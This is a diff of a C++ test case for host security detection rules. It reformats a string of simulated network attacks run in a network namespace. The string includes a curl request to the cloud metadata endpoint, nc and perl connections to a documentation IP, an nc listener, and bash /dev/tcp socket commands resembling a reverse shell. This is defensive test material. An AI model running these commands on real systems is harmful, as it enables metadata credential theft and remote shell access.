@@ -299,14 +299,15 @@ TEST_CASE("default rules on the host: each attack fires its rule, each benign ne
                    "\n" + "busybox nc -l -p 2226 & bp=$!; sleep 0.2; kill $bp\n" +
                    perl_connect("203.0.113.5:8081") + "\n" + perl_connect("203.0.113.5:9060") +
                    "\n" + "bash -c '/bin/true </dev/null >/dev/null'");
-  const std::string net_attack = in_netns(
-      t, "net-attack",
-      "curl -s -m 1 -o /dev/null http://169.254.169.254/latest/meta-data/\n" +
-          perl_connect("203.0.113.5:22") + "\n" + "timeout 1 " + t + "/bin/nc 203.0.113.5 2222 </dev/null\n" +
-          t + "/bin/nc -l -p 2225 & np=$!; sleep 0.3; kill $np\n" +
-          "bash -c 'exec 3<>/dev/tcp/203.0.113.5/2227'\n" +
-          "bash -c 'exec 3<>/dev/tcp/203.0.113.5/2228; /bin/true <&3 >&3'\n" +
-          perl_connect("203.0.113.5:3333") + "\n" + perl_connect("203.0.113.5:9050"));
+  const std::string net_attack =
+      in_netns(t, "net-attack",
+               "curl -s -m 1 -o /dev/null http://169.254.169.254/latest/meta-data/\n" +
+                   perl_connect("203.0.113.5:22") + "\n" + "timeout 1 " + t +
+                   "/bin/nc 203.0.113.5 2222 </dev/null\n" + t +
+                   "/bin/nc -l -p 2225 & np=$!; sleep 0.3; kill $np\n" +
+                   "bash -c 'exec 3<>/dev/tcp/203.0.113.5/2227'\n" +
+                   "bash -c 'exec 3<>/dev/tcp/203.0.113.5/2228; /bin/true <&3 >&3'\n" +
+                   perl_connect("203.0.113.5:3333") + "\n" + perl_connect("203.0.113.5:9050"));
   std::vector<RuleCase> all = cases;
   const std::vector<RuleCase> net_cases = {
       {"Cloud metadata endpoint contacted", "", "", "169.254.169.254:80"},
